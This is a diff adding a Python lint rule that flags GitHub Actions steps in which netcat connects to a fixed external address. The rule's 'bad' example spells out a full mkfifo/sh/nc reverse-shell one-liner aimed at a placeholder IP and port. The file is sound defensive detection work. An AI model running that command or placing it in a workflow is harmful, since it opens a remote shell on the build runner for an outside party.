@@ -1,0 +1,47 @@
+import re
+from collections.abc import Iterator
+
+from aurora_devops import Finding, Script, bad, good, policy
+
+_NETCAT = re.compile(
+    r"\b(?:nc|ncat|netcat)\b[^\n|;&]*?\s(?!127\.|0\.0\.0\.0)\d{1,3}(?:\.\d{1,3}){3}\s+\d{1,5}\b"
+)
+
+
+@policy(
+    "GHA068",
+    severity="warning",
+    category="security",
+    equivalents={"checkov": "CKV_GHA_4"},
+    examples=[
+        bad(
+            """\
+            on: push
+            jobs:
+              build:
+                runs-on: ubuntu-24.04
+                steps:
+                  - run: mkfifo f; cat f | sh -i 2>&1 | «nc 203.0.113.7 4444» > f
+            """
+        ),
+        good(
+            """\
+            on: push
+            jobs:
+              build:
+                runs-on: ubuntu-24.04
+                steps:
+                  - run: nc -z 127.0.0.1 5432
+            """
+        ),
+    ],
+)
+def netcat_connection(script: Script) -> Iterator[Finding]:
+    """A script opens a raw connection to a fixed address.
+
+    This is how a stolen workflow gives a stranger a shell on the runner.
+    Find out who wrote it.
+    """
+    if "nc" in script.text or "netcat" in script.text:
+        for match in _NETCAT.finditer(script.text):
+            yield Finding(at=script.place(*match.span()), message="netcat connects to a fixed address")
